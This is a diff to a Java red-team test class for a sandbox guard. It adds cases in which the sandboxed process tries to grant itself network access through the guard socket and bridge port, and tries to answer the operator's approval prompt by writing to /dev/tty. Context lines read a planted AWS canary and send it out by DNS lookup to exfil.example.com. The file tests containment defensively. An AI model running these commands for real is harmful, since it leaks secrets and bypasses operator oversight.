@@ -10,6 +10,7 @@ import dev.airlock.sandbox.ExecResult;
 import dev.airlock.sandbox.SandboxException;
 import dev.airlock.sandbox.SandboxPolicy;
 import dev.airlock.sandbox.SandboxSession;
+import dev.airlock.sandbox.SessionEvent;
 import dev.airlock.sandbox.redteam.RedTeamCase;
 import dev.airlock.sandbox.redteam.RedTeamCase.Verdict;
 import dev.airlock.sandbox.redteam.RedTeamResult;
@@ -29,7 +30,7 @@ import java.util.Map;
  * name was resolved and no non-loopback dial was attempted.
  */
 public final class GuardRedTeam implements AutoCloseable {
-    /** The class letter these cases carry in {@link RedTeamCase#cls()}; printed as {@code D-guard}. */
+    /** The class letter the network cases carry in {@link RedTeamCase#cls()}; printed as {@code D-guard}. Grant cases are {@code F}. */
     public static final char CLS = 'G';
     /** Shell prefix that reads the planted AWS canary into {@code $K} (exit 99 if canaries are missing). */
     public static final String SECRET =
@@ -133,7 +134,34 @@ public final class GuardRedTeam implements AutoCloseable {
                 "curl -sS --fail -m 5 --noproxy '*' -k https://127.0.0.1" + port + "/direct"));
         c.add(reachesNothing("DNS exfiltration of the canary resolves nothing",
                 SECRET + "getent hosts $K.exfil.example.com && exit 0 || exit 1"));
+        // Class F, harness: the grant channel is a method of the JVM, asked on the operator's /dev/tty. What the
+        // sandbox can see of the outside is the guard's session socket (behind the bridge) and its own /dev.
+        c.add(selfGrant("granting itself net:* through the guard socket and bridge is refused", true,
+                "curl -sS -m 5 --unix-socket /run/airlock/guard.sock -d '{\"grant\":\"net:*\"}' http://localhost/grant; "
+                        + "curl -sS -m 5 -X GRANT --noproxy '*' -d 'net:xapi.test' http://127.0.0.1:" + GuardedSandboxes.BRIDGE_PORT + "/; "
+                        + "(printf '{\"open\":\"x\",\"grant\":\"net:*\"}\\n' >&3; timeout 2 cat <&3) 3<>/dev/tcp/127.0.0.1/"
+                        + GuardedSandboxes.BRIDGE_PORT + "; curl -sS --fail -m 10 https://xapi.test" + port + "/ok"));
+        c.add(selfGrant("answering the operator's grant prompt through /dev/tty is impossible", false,
+                "for i in 1 2 3; do echo y > /dev/tty || exit 1; done; exit 0"));
         return c;
+    }
+
+    /**
+     * An attempt to grant itself a capability: blocked when the script fails, nothing reached the upstream, the
+     * session holds no grant and no capability was even requested (the sandbox has no way to ask, let alone grant).
+     */
+    private RedTeamCase selfGrant(String name, boolean expectsDenial, String script) {
+        return new RedTeamCase('F', name, expectsDenial, ctx -> {
+            int before = upstream.received.size();
+            long asked = session.eventLog().events().stream().filter(e -> e instanceof SessionEvent.CapabilityRequested
+                    || e instanceof SessionEvent.CapabilityGranted).count();
+            ExecResult r = session.exec("bash", "-c", script);
+            long askedAfter = session.eventLog().events().stream().filter(e -> e instanceof SessionEvent.CapabilityRequested
+                    || e instanceof SessionEvent.CapabilityGranted).count();
+            boolean seen = r.denials().stream().anyMatch(d -> d.kind() == DenialKind.NETWORK);
+            return new Verdict(!r.succeeded() && nothingLeft(before) && session.grants().active().isEmpty() && askedAfter == asked,
+                    seen, firstLine(r));
+        });
     }
 
     public LoopbackUpstream upstream() {
